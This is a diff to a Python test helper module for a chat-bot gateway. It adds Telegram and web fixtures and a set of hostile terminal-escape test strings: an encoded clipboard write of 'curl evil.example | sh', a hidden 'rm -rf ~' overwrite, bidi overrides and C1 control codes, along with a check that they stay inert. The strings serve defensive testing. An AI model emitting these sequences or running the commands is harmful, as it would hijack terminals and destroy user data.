@@ -36,6 +36,7 @@ from runtime.recipes import validate_data
 from runtime.sandbox.client import BrokerClient
 
 from .fake_discord import FakeDiscord
+from .fake_telegram import FakeTelegram
 
 ROOT = Path(__file__).resolve().parents[1]
 # Reference data from the specifications, kept in the repository (tests/data/README.md says
@@ -833,3 +834,73 @@ def potluck(home: Path, *args: str, ok: bool = True) -> subprocess.CompletedProc
     if ok:
         assert done.returncode == 0, done.stderr
     return done
+
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
+
+
+CLEAR = "\x1b[2J\x1b[H"
+
+
+BIDI = "\u202eevil\u202c \u2066isolate\u2069"
+
+
+C1 = "\x9b31m\x9d0;title\x9c"  # CSI and OSC as single C1 characters, no ESC needed
+
+
+OVERWRITE = "innocent\rrm -rf ~\x08\x08"
+
+
+HOSTILE = CLIPBOARD + CLEAR + BIDI + C1 + OVERWRITE
+
+
+# What a terminal would act on; none of these may reach it from the text above.
+ACTIVE = ["\x1b", "\x07", "\x08", "\r", "\x9b", "\x9c", "\x9d", "\u202e", "\u2066", "\u2069"]
+
+
+def assert_inert(output: str) -> None:
+    found = [repr(c) for c in ACTIVE if c in output]
+    assert not found, f"{found} reached the terminal: {output!r}"
+
+
+TG_CHAT, TG_ALICE, TG_BOB = -100123, 11, 22
+
+
+def telegram_home(tmp: Path, server: FakeTelegram) -> dict[str, str]:
+    write_key_file(tmp / "gateway.key", KeyPair.generate())
+    env = {
+        "POTLUCK_HOME": str(tmp),
+        "POTLUCK_TELEGRAM_TOKEN": server.token,
+        "POTLUCK_TELEGRAM_BASE_URL": f"{server.url}/bot",
+        "POTLUCK_TELEGRAM_BASE_FILE_URL": f"{server.url}/file/bot",
+        "POTLUCK_ALLOWED_ROOMS": f"telegram:{TG_CHAT}",
+    }
+    store = Store(f"sqlite:///{tmp / 'potluck.db'}")
+    library = Library(store)
+    library.sync_bundled()
+    library.save(validate_data(ECHO_DUO))
+    store.close()
+    return env
+
+
+@contextlib.asynccontextmanager
+async def web_room(tmp: Path) -> AsyncIterator[Any]:
+    async with web_gateway(tmp) as gateway:
+        yield gateway.adapters["web"]
+
+
+@contextlib.asynccontextmanager
+async def web_gateway(tmp: Path) -> AsyncIterator[Any]:
+    write_key_file(tmp / "gateway.key", KeyPair.generate())
+    store = Store(f"sqlite:///{tmp / 'potluck.db'}")
+    library = Library(store)
+    library.sync_bundled()
+    library.save(validate_data(ECHO_DUO))
+    store.close()
+    config = load_config(env={"POTLUCK_HOME": str(tmp), "POTLUCK_WEB_PORT": "0"})
+    gateway = await build(config, web=True)
+    try:
+        yield gateway
+    finally:
+        await gateway.close()
+        gateway.store.close()
